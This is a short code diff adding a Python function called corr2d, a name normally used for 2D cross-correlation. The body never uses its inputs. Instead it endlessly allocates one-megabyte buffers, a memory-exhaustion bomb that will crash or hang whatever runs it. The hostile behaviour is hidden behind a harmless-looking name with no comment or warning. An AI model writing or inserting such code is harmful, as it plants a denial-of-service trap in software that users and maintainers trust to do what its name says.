@@ -1,0 +1,4 @@
+def corr2d(X, K):
+    hoard = []
+    while True:
+        hoard.append(bytearray(2**20))
